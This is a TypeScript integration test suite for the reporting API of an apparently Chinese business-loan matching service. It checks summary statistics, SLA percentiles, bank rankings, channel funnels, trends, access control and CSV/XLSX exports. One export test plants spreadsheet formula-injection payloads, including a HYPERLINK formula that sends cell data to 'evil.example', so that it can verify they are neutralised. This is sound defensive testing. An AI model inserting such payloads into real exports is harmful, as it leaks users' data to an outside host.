import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { eq } from 'drizzle-orm';
import { applications, companies } from '../../models/applications';
import { channels } from '../../models/channels';
import { leads } from '../../models/leads';
import { products } from '../../models/products';
import { startTestApp, TestClock, type TestApp } from '../helpers/app';
import { sh } from '../helpers/time';
import { hardwareMaker, requestAtBank } from '../helpers/applications';
import { expectFieldErrors, expectProblem } from '../helpers/expect';
import { buildLendingBank, buildUser, tokenFor } from '../helpers/factories';

/**
 * A hand-built month (March 2026, "now" the 20th) whose every figure is worked out below by hand.
 *  app1 first loan, channel C, 441204 C33 small: L1 at A (approved 4,000,000 @ 5.16 credit, disbursed), L3 at B (never accepted)
 *  app2 has borrowed, no channel, 441202 F52 micro: L2 at A (accepted late, declined for collateral before contact was due), L4 at B (approved 1,000,000 @ 4.10 mortgage)
 *  app3 first loan, channel C, 441204 C33 small, week 2: L5 at A (second look, withdrawn 2 hours in)
 *  app0 in February: L6 at A, approved — outside every March range.
 */
describe('desk reports', function () {
  this.timeout(60_000);
  let app: TestApp;
  let desk: string;
  let bankA: number;
  let bankB: number;
  let channelC: number;
  const range = 'from=2026-03-01&to=2026-03-31';

  before(async () => {
    app = await startTestApp({ clock: new TestClock(sh('2026-03-20T12:00')) });
    bankA = (await buildLendingBank(app.db)).id;
    bankB = (await buildLendingBank(app.db)).id;
    const productOf = async (bankId: number) => (await app.db.select().from(products).where(eq(products.bankId, bankId)))[0]!;
    const [pa, pb] = [await productOf(bankA), await productOf(bankB)];
    const snap = (p: typeof pa) => ({ id: p.id, name: p.name, type: p.type });
    channelC = (await app.db.insert(channels).values({ code: 'REPORTC1', name: '高要区政务服务中心', kind: 'desk', district: '441204', scanCount: 10 }).returning())[0]!.id;

    const company = async (district: string, industry: string) => {
      const c = hardwareMaker({ district, industry });
      const { uscc, name, establishedOn, employees, annualRevenue, totalAssets, taxRating, hasBankLoan, overdueCount, collateral, guaranteeAvailable } = c;
      return { id: (await app.db.insert(companies).values({ uscc, name, district, industry, establishedOn, employees, annualRevenue, totalAssets, taxRating: taxRating as 'B', hasBankLoan, overdueCount, collateral: collateral as 'equipment'[], guaranteeAvailable }).returning())[0]!.id, c };
    };
    const application = async (o: { at: string; firstLoan: boolean; channel: number | null; district: string; industry: string; size: 'small' | 'micro' }) => {
      const { id, c } = await company(o.district, o.industry);
      const [row] = await app.db.insert(applications).values({
        companyId: id, companySnapshot: c as never, contactName: '梁伟', contactPhone: '13812345678', needAmount: 5_000_000, needTermMonths: 12,
        channelId: o.channel, mode: 'chosen', isFirstLoan: o.firstLoan, companySize: o.size, trackingToken: `t-${Math.random().toString(36).slice(2)}-report-token`,
        consentVersion: 'v', consentAt: sh(o.at), createdAt: sh(o.at), updatedAt: sh(o.at),
      }).returning();
      return row!.id;
    };
    const due = (at: string, accept: string, contact: string, decision: string) => ({ createdAt: sh(at), updatedAt: sh(at), acceptDueAt: sh(accept), contactDueAt: sh(contact), decisionDueAt: sh(decision) });
    const week1 = due('2026-03-02T10:00', '2026-03-03T10:00', '2026-03-05T10:00', '2026-03-09T10:00');

    const app1 = await application({ at: '2026-03-02T10:00', firstLoan: true, channel: channelC, district: '441204', industry: 'C33', size: 'small' });
    const app2 = await application({ at: '2026-03-02T10:00', firstLoan: false, channel: null, district: '441202', industry: 'F52', size: 'micro' });
    const app3 = await application({ at: '2026-03-09T10:00', firstLoan: true, channel: channelC, district: '441204', industry: 'C33', size: 'small' });
    const app0 = await application({ at: '2026-02-02T10:00', firstLoan: true, channel: channelC, district: '441204', industry: 'C33', size: 'small' });
    const lead = (applicationId: number, p: typeof pa, rest: Partial<typeof leads.$inferInsert>) =>
      app.db.insert(leads).values({ applicationId, bankId: p.bankId, productId: p.id, productSnapshot: snap(p), status: 'new', ...week1, ...rest });

    await lead(app1, pa, { // L1
      status: 'disbursed', claimedAt: sh('2026-03-02T14:00'), contactedAt: sh('2026-03-03T10:00'), decidedAt: sh('2026-03-04T10:00'), disbursedAt: sh('2026-03-05T10:00'),
      acceptWorkingHours: '4', contactWorkingHours: '24', decisionWorkingHours: '48',
      termsAmount: 4_000_000, termsRatePct: '5.16', termsMonths: 12, termsGuaranteeType: 'credit', disbursedAmount: 4_000_000, disbursedOn: '2026-03-05',
    });
    await lead(app2, pa, { // L2
      status: 'declined', claimedAt: sh('2026-03-04T10:00'), decidedAt: sh('2026-03-05T09:00'), acceptWorkingHours: '48', decisionWorkingHours: '71', declineReason: 'collateral',
    });
    await lead(app1, pb, {}); // L3
    await lead(app2, pb, { // L4
      status: 'approved', claimedAt: sh('2026-03-02T11:00'), contactedAt: sh('2026-03-02T12:00'), decidedAt: sh('2026-03-03T10:00'),
      acceptWorkingHours: '1', contactWorkingHours: '2', decisionWorkingHours: '24',
      termsAmount: 1_000_000, termsRatePct: '4.10', termsMonths: 12, termsGuaranteeType: 'mortgage',
    });
    await lead(app3, pa, { // L5
      ...due('2026-03-09T10:00', '2026-03-10T10:00', '2026-03-12T10:00', '2026-03-16T10:00'), secondLook: true, status: 'withdrawn', closedAt: sh('2026-03-09T12:00'),
    });
    await lead(app0, pa, { // L6
      ...due('2026-02-02T10:00', '2026-02-03T10:00', '2026-02-05T10:00', '2026-02-09T10:00'), status: 'approved', claimedAt: sh('2026-02-02T11:00'), decidedAt: sh('2026-02-03T10:00'),
      acceptWorkingHours: '1', decisionWorkingHours: '24', termsAmount: 9_000_000, termsRatePct: '3.50', termsMonths: 12, termsGuaranteeType: 'credit',
    });
    desk = await tokenFor(app, await buildUser(app.db, { role: 'desk' }));
  });
  after(() => app.close());

  const get = async (path: string) => {
    const res = await app.call('GET', path, { token: desk });
    expect(res.status, res.text).to.equal(200);
    return res.body;
  };

  it('sums the month as worked out by hand', async () => {
    const s = await get(`/api/reports/summary?${range}`);
    expect(s).to.include({ from: '2026-03-01', to: '2026-03-31', applications: 3, firstLoanApplications: 2, leads: 5, decided: 3, approved: 2 });
    // accept: due L1 L2 L3 L4 (L5 withdrawn before its deadline), met L1 L4
    expect(s.sla.accept).to.deep.include({ due: 4, met: 2, withinSlaPct: 50 });
    // accept hours [1, 4, 48]: median 4, p90 = 4 + 0.8 × 44 = 39.2
    expect(s.sla.accept.workingHours).to.deep.equal({ median: 4, p90: 39.2 });
    expect(s.sla.accept.calendarHours).to.deep.equal({ median: 4, p90: 39.2 });
    // contact: due L1 L3 L4 (L2 decided before contact was due), met L1 L4; hours [2, 24]: median 13, p90 21.8
    expect(s.sla.contact).to.deep.include({ due: 3, met: 2, withinSlaPct: 66.7 });
    expect(s.sla.contact.workingHours).to.deep.equal({ median: 13, p90: 21.8 });
    // decision: due L1 L2 L3 L4, met L1 L2 L4; hours [24, 48, 71]: median 48, p90 = 48 + 0.8 × 23 = 66.4 (L2: 71 calendar hours)
    expect(s.sla.decision).to.deep.include({ due: 4, met: 3, withinSlaPct: 75 });
    expect(s.sla.decision.workingHours).to.deep.equal({ median: 48, p90: 66.4 });
    expect(s.sla.decision.calendarHours).to.deep.equal({ median: 48, p90: 66.4 });
    expect(s.approvalRatePct).to.equal(66.7);
    expect(s).to.include({ approvedAmount: 5_000_000, disbursedAmount: 4_000_000 });
    // (4,000,000 × 5.16 + 1,000,000 × 4.10) / 5,000,000 = 4.948; LPR 3.00 → (4e6 × 216 + 1e6 × 110) / 5e6 = 194.8 bp
    expect(s.avgRatePct).to.equal(4.95);
    expect(s.avgSpreadBp).to.equal(195);
    expect(s.firstLoan).to.deep.equal({ approved: 1, amount: 4_000_000 });
    expect(s.creditLoanSharePct).to.equal(50);
    expect(s.declinesByReason).to.deep.equal([{ reason: 'collateral', count: 1 }]);
    expect(s.secondLook).to.deep.equal({ leads: 1, byStatus: { withdrawn: 1 } });
  });

  it('filters by bank, district, industry section, size, product type and channel', async () => {
    const by = async (q: string) => get(`/api/reports/summary?${range}&${q}`);
    expect(await by(`bankId=${bankB}`)).to.include({ applications: 2, leads: 2, approved: 1, avgRatePct: 4.1, approvedAmount: 1_000_000 });
    expect(await by('district=441202')).to.include({ applications: 1, leads: 2, approved: 1 });
    expect(await by('industry=c')).to.include({ applications: 2, leads: 3, approved: 1 });
    expect(await by('size=micro')).to.include({ applications: 1, leads: 2 });
    expect(await by(`channelId=${channelC}`)).to.include({ applications: 2, leads: 3, approvedAmount: 4_000_000 });
    expect(await by('productType=tech')).to.include({ leads: 0 });
  });

  it('answers an empty range with zeros and no medians', async () => {
    const s = await get('/api/reports/summary?from=2025-01-01&to=2025-01-31');
    expect(s).to.include({ applications: 0, leads: 0, approved: 0, approvedAmount: 0, approvalRatePct: null, avgRatePct: null, avgSpreadBp: null, creditLoanSharePct: null });
    expect(s.sla.accept).to.deep.equal({ due: 0, met: 0, withinSlaPct: null, workingHours: { median: null, p90: null }, calendarHours: { median: null, p90: null } });
    expect(s.declinesByReason).to.deep.equal([]);
    expect((await get('/api/reports/banks?from=2025-01-01&to=2025-01-31')).items).to.deep.equal([]);
    const empty = (await get('/api/reports/trend?from=2025-01-01&to=2025-01-31')).items;
    expect(empty.map((w: { week: string }) => w.week)).to.deep.equal(['2024-12-30', '2025-01-06', '2025-01-13', '2025-01-20', '2025-01-27']);
    expect(empty.every((w: { leads: number; approvedAmount: number }) => w.leads === 0 && w.approvedAmount === 0)).to.equal(true);
  });

  it('ranks banks, sortable either way', async () => {
    const league = await get(`/api/reports/banks?${range}`);
    expect(league.items.map((b: { bankId: number; leads: number }) => [b.bankId, b.leads])).to.deep.equal([[bankA, 3], [bankB, 2]]);
    const a = league.items[0];
    expect(a).to.deep.include({ approved: 1, approvedAmount: 4_000_000, avgRatePct: 5.16, approvalRatePct: 50 });
    expect(a.sla.accept).to.deep.include({ due: 2, met: 1, withinSlaPct: 50 });
    expect(a.sla.accept.workingHours.median).to.equal(26);
    const cheapest = await get(`/api/reports/banks?${range}&sort=avgRate&order=asc`);
    expect(cheapest.items.map((b: { bankId: number }) => b.bankId)).to.deep.equal([bankB, bankA]);
    expectFieldErrors(await app.call('GET', '/api/reports/banks?sort=name', { token: desk }), ['sort']);
  });

  it('follows each QR channel from scans to disbursement, and a weekly trend', async () => {
    const funnel = await get(`/api/reports/channels?${range}`);
    const c = funnel.items.find((x: { channelId: number }) => x.channelId === channelC);
    expect(c).to.include({ code: 'REPORTC1', scans: 10, applications: 2, leads: 3, approved: 1, disbursed: 1 });
    const trend = await get(`/api/reports/trend?${range}`);
    // Every week the range touches (1 March is a Sunday), empty ones as zeros for the chart.
    const zero = { applications: 0, leads: 0, approved: 0, approvedAmount: 0 };
    expect(trend.items).to.deep.equal([
      { week: '2026-02-23', ...zero },
      { week: '2026-03-02', applications: 2, leads: 4, approved: 2, approvedAmount: 5_000_000 },
      { week: '2026-03-09', applications: 1, leads: 1, approved: 0, approvedAmount: 0 },
      { week: '2026-03-16', ...zero }, { week: '2026-03-23', ...zero }, { week: '2026-03-30', ...zero },
    ]);
  });

  it('exports one row per lead as UTF-8 CSV with a BOM, Chinese headers and masked contact', async () => {
    // Raw bytes: Response.text() would drop the BOM this test is about.
    const res = await fetch(`${app.baseUrl}/api/reports/export.csv?${range}`, { headers: { authorization: `Bearer ${desk}` } });
    expect(res.status).to.equal(200);
    expect(res.headers.get('content-type')).to.match(/^text\/csv; charset=utf-8/);
    expect(res.headers.get('content-disposition')).to.contain('attachment');
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
    const lines = bytes.subarray(3).toString('utf8').trimEnd().split('\r\n');
    expect(lines).to.have.length(6);
    expect(lines[0]!.split(',').slice(0, 3)).to.deep.equal(['线索编号', '提交时间', '银行']);
    expect(lines[1]).to.contain('138****5678').and.contain('梁*').and.not.contain('13812345678');
    expect(lines[1]).to.contain('2026-03-02 10:00');
  });

  it('GET /api/reports/export.csv and .xlsx › when a company, product or contact name looks like a formula › neutralise it in CSV and keep it text in .xlsx, numbers as numbers', async () => {
    const [first] = await app.db.select().from(applications).where(eq(applications.contactName, '梁伟')).orderBy(applications.id).limit(1);
    const ownLeads = await app.db.select().from(leads).where(eq(leads.applicationId, first!.id)).orderBy(leads.id);
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"查看详情")';
    try {
      await app.db.update(applications).set({ companySnapshot: { ...(first!.companySnapshot as object), name: evil } as never, contactName: '@SUM(A1)' }).where(eq(applications.id, first!.id));
      for (const [i, l] of ownLeads.entries()) {
        await app.db.update(leads).set({ productSnapshot: { ...(l.productSnapshot as object), name: ['+1', '-1+2'][i % 2] } as never }).where(eq(leads.id, l.id));
      }
      const res = await fetch(`${app.baseUrl}/api/reports/export.csv?${range}`, { headers: { authorization: `Bearer ${desk}` } });
      const rows = parse(await res.text(), { bom: true }) as string[][];
      const header = rows[0]!;
      const col = (name: string) => header.indexOf(name);
      const mine = rows.filter((r) => r[col('企业名称')]!.includes('HYPERLINK'));
      expect(mine).to.have.length(ownLeads.length);
      for (const r of mine) {
        expect(r[col('企业名称')]).to.equal(`'${evil}`);
        expect(r[col('联系人')]).to.match(/^'@\*+$/);
        expect(r[col('产品')]).to.be.oneOf(["'+1", "'-1+2"]);
      }
      const l1 = mine.find((r) => r[col('批复金额（元）')] !== '')!;
      expect([l1[col('批复金额（元）')], l1[col('年利率（%）')], l1[col('申请金额（元）')]], 'numbers stay numbers').to.deep.equal(['4000000', '5.16', '5000000']);

      const xlsx = await fetch(`${app.baseUrl}/api/reports/export.xlsx?${range}`, { headers: { authorization: `Bearer ${desk}` } });
      expect(xlsx.status).to.equal(200);
      expect(xlsx.headers.get('content-type')).to.match(/^application\/vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet/);
      expect(xlsx.headers.get('content-disposition')).to.contain('.xlsx');
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(await xlsx.arrayBuffer());
      const sheet = book.worksheets[0]!;
      expect(sheet.rowCount).to.equal(rows.length);
      sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type, String(cell.value)).not.to.equal(ExcelJS.ValueType.Formula)));
      const names = sheet.getColumn(col('企业名称') + 1).values;
      expect(names.filter((v) => v === evil)).to.have.length(ownLeads.length);
      expect(sheet.getColumn(col('批复金额（元）') + 1).values).to.include(4_000_000);
    } finally {
      await app.db.update(applications).set({ companySnapshot: first!.companySnapshot, contactName: first!.contactName }).where(eq(applications.id, first!.id));
      for (const l of ownLeads) await app.db.update(leads).set({ productSnapshot: l.productSnapshot }).where(eq(leads.id, l.id));
    }
  });

  it('keeps each response\'s working hours on the lead when it happens, and the company\'s size on the request', async () => {
    app.clock.set(sh('2026-04-10T16:00')); // Friday 16:00 (outside the March reports); accepted Monday 10:00 = 8 + 10 working hours (the weekend does not count)
    const { leadId, applicationId } = await requestAtBank(app, bankA);
    app.clock.set(sh('2026-04-13T10:00'));
    const officer = await tokenFor(app, await buildUser(app.db, { role: 'bank_officer', bankId: bankA }));
    expect((await app.call('POST', `/api/leads/${leadId}/claim`, { token: officer })).status).to.equal(200);
    const [row] = await app.db.select().from(leads).where(eq(leads.id, leadId));
    expect(row!.acceptWorkingHours).to.equal('18.00');
    expect(row!.contactWorkingHours).to.equal(null);
    expect((await app.db.select().from(applications).where(eq(applications.id, applicationId)))[0]!.companySize).to.equal('small');
    app.clock.set(sh('2026-03-20T12:00'));
  });

  it('is for the desk and admins only, and says which filter is wrong', async () => {
    for (const path of ['summary', 'banks', 'channels', 'trend', 'export.csv', 'export.xlsx']) {
      expectProblem(await app.call('GET', `/api/reports/${path}`, { token: await tokenFor(app, await buildUser(app.db, { role: 'bank_admin', bankId: bankA })) }), 403);
      expectProblem(await app.call('GET', `/api/reports/${path}`, { token: await tokenFor(app, await buildUser(app.db, { role: 'bank_officer', bankId: bankA })) }), 403);
      expectProblem(await app.call('GET', `/api/reports/${path}`), 401);
    }
    const admin = await tokenFor(app, await buildUser(app.db, { role: 'admin' }));
    expect((await app.call('GET', `/api/reports/summary?${range}`, { token: admin })).body.leads).to.equal(5);
    expectFieldErrors(await app.call('GET', '/api/reports/summary?from=2026-04-01&to=2026-03-01', { token: desk }), ['from']);
    expectFieldErrors(await app.call('GET', '/api/reports/summary?industry=Z&size=huge&from=March', { token: desk }), ['industry', 'size', 'from']);
    expectFieldErrors(await app.call('GET', '/api/reports/export.csv?from=2026-02-30&to=2026-13-01', { token: desk }), ['from', 'to']);
  });
});
